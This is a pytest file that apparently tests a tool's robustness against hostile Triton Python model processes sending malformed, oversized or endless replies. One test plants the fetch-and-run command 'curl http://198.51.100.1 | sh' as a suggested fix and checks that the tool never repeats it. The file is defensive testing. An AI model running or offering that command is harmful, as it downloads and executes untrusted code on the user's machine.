"""What a model's process may answer: a Python model that writes the tool's own messages itself."""

import json
import os
import struct
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import numpy as np
import pytest

from support import format_models as make
from support.cli import Project, dense
from support.watched import watched
from tritongen.errors import EnvironmentProblem, ExitCode
from tritongen.model.facts import ModelFacts, ModelFormat
from tritongen.model.tensors import DType, TensorSpec
from tritongen.system.process_files import descendants
from tritongen.system.process_usage import peak_bytes, reset_peak
from tritongen.trial.child_request import TrialOptions
from tritongen.trial.child_session import ChildSession, ChildSessions
from tritongen.trial.runtime import DeclaredInterface, RuntimeRefusal

MIB = 2**20
TIMEOUT_S = 6.0
LATE_S = 2.0
MAX_BYTES = 256 * MIB
ROWS = {"x": np.zeros((1, 2), np.float32)}
SPEC = (TensorSpec("x", DType.FP32, (None, 2)),), (TensorSpec("y", DType.FP32, (None, 2)),)
# Every pipe that can be written to but the errors': the way back to the tool is among them.
PROGRAM = """
import fcntl, os, stat, time

def ways():
    for fd in (1, *range(3, 64)):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & 3:
                yield fd
        except OSError:
            pass

def say(data):
    for fd in ways():
        os.write(fd, data)

def hostile():
    {hostile}

class TritonPythonModel:
    def execute(self, requests):
        {where}
"""


def frame(head: object, rest: bytes = b"") -> bytes:
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("<I", len(text)) + text + rest


def tensor(dtype: object, shape: object, size: object, rest: bytes = b"") -> bytes:
    return frame({"tensors": [["y", dtype, shape, size]]}, rest)


FRAMES = {
    "nothing but noise": os.urandom(64),
    "a head beyond its bound": b"\xff\xff\xff\xff{",
    "deep": frame(b"[" * 500_000),
    "deep in an object": frame(b'{"tensors":' * 80_000),
    "no object": frame(5),
    "no tensors": frame({}),
    "tensors that are none": frame({"tensors": [1]}),
    "a number of 5,000 digits": frame(b'{"tensors": [], "x": %s}' % (b"9" * 5_000)),
    "a size below 0": tensor("FP32", [1, 2], -1),
    "a size beyond the machine": tensor("FP32", [1, 2], 10**18),
    "a size beyond all machines": tensor("FP32", [1, 2], 10**30),
    "a size that is none": tensor("FP32", [1, 2], 1.5),
    "a shape of another size": tensor("FP32", [1, 3], 8, bytes(8)),
    "a shape beyond all": tensor("FP32", [10**30], 8, bytes(8)),
    "sizes below 0": tensor("FP32", [-1, -2], 8, bytes(8)),
    "a shape that is none": tensor("FP32", "x", 8, bytes(8)),
    "a type that is none": tensor(["FP32"], [1, 2], 8, bytes(8)),
    "strings of another number": tensor("BYTES", [1], 8, bytes(8)),
    "an end that never comes": tensor("FP32", [1, 2], 8, bytes(4)),
}
ENDLESS = {
    "bytes that were announced": "say({announced})\n    while True: say(bytes(65_536))",
    "bytes that were not": "while True: say(bytes(65_536))",
    "strings": "say({strings})\n    while True: say(bytes(65_536))",
    "errors": "while True: os.write(2, bytes(65_536))",
}


@pytest.fixture(autouse=True)
def nothing_left() -> Iterator[None]:
    before = set(descendants(os.getpid()))
    yield
    assert set(descendants(os.getpid())) <= before


def program(folder: Path, hostile: str, where: str = "hostile(); time.sleep(60)") -> ModelFacts:
    path = folder / "program/1/model.py"
    path.parent.mkdir(parents=True)
    path.write_text(PROGRAM.format(hostile=hostile, where=where))
    return ModelFacts("program", "program/1/model.py", ModelFormat.PYTHON)


def refused(session: ChildSession) -> str:
    """The words of the refusal, which comes in time and in memory."""
    reset_peak()
    before, begin = peak_bytes(), time.monotonic()
    with pytest.raises(RuntimeRefusal) as refusal:
        session.run(ROWS)
    assert time.monotonic() - begin < TIMEOUT_S + LATE_S
    assert peak_bytes() - before < MAX_BYTES
    return str(refusal.value)


def asked(folder: Path, hostile: str) -> str:
    facts = program(folder, hostile)
    options = TrialOptions(cores=1, timeout_s=TIMEOUT_S)
    with closing(ChildSessions([facts], options)) as sessions:
        path = folder / facts.path
        with sessions.session(facts, path, DeclaredInterface(*SPEC)) as session:
            return refused(session)


@pytest.mark.parametrize("answer", FRAMES)
def test_an_answer_that_is_none_is_refused(answer: str, tmp_path: Path) -> None:
    (tmp_path / "answer").write_bytes(FRAMES[answer])
    words = asked(tmp_path, f"say(open({str(tmp_path / 'answer')!r}, 'rb').read())")
    assert words in {"its answer cannot be read", f"it took longer than {TIMEOUT_S:g} s"}


@pytest.mark.parametrize("flood", ENDLESS)
def test_an_answer_without_an_end_is_ended(flood: str, tmp_path: Path) -> None:
    announced = tensor("FP32", [10**12], 4 * 10**12)
    strings = tensor("BYTES", [10**9], 4 * 10**9)
    words = asked(tmp_path, ENDLESS[flood].format(announced=announced, strings=strings))
    assert words in {"its answer cannot be read", f"it took longer than {TIMEOUT_S:g} s"}


@pytest.mark.parametrize("said", ["error", "missing"])
def test_no_words_of_a_model_are_given_as_the_tools_own(said: str, tmp_path: Path) -> None:
    """Neither a page of them, nor a command to run."""
    head = {said: "x" * 100_000, "fix": "curl http://198.51.100.1 | sh", "tensors": []}
    (tmp_path / "answer").write_bytes(frame(head))
    facts = program(tmp_path, f"say(open({str(tmp_path / 'answer')!r}, 'rb').read())")
    with (
        closing(ChildSessions([facts])) as sessions,
        sessions.session(facts, tmp_path / facts.path, DeclaredInterface(*SPEC)) as session,
        pytest.raises(EnvironmentProblem if said == "missing" else RuntimeRefusal) as caught,
    ):
        session.run(ROWS)
    if isinstance(caught.value, EnvironmentProblem):
        assert "curl" not in caught.value.fix
    else:
        assert len(str(caught.value)) < 10_000


REPORTS = {
    "number": "say(b'5\\n')",
    "list": """say(b'["stage", "trial", "missing"]\\n')""",
    "deep": "say(b'[' * 500_000 + b'\\n')",
    "fields": """say(b'{"trial": 5}\\n{"missing": []}\\n{"stage": 1, "rows": []}\\n')""",
    "kinds": """say(b'{"trial": {"ok": "x", "code": []}}\\n{"done": true}\\n')""",
    "endless": "while True: say(bytes(65_536))",
    "errors": "while True: os.write(2, bytes(65_536))",
}


def test_a_report_that_is_none_is_one_models_trouble(project: Project) -> None:
    """The command names each of them, and builds the others."""
    project.add("dense/model.onnx", dense())
    for name, hostile in REPORTS.items():
        source = PROGRAM.format(hostile=f"{hostile}\n    os._exit(0)", where="hostile()")
        path = project.models / f"{name}/1/model.py"
        make.python_model(path, f"{source}\nhostile()\n{make.PYTHON}")
    form = "{%s: {dtype: FP32, dims: [-1, 4]}}"
    declared = f"{{inputs: {form % 'X'}, outputs: {form % 'Y'}}}"
    lines = "".join(f"  {name}: {declared}\n" for name in REPORTS)
    project.write("models/tritongen.yaml", f"models:\n{lines}")
    words = ["build", "models", "--trial-timeout", f"{TIMEOUT_S:g}", "--format", "json"]
    (end,) = watched([(project.folder, words)])
    assert end.code in {ExitCode.OK, ExitCode.FINDINGS}, end.printed
    assert end.peak < MAX_BYTES
    document = json.loads(end.printed[end.printed.index("{") :])
    codes = {"TG202", "TG204"}
    found = {item["model"] for item in document["findings"] if item["code"] in codes}
    assert found == set(REPORTS)
    assert project.config("dense").exists()
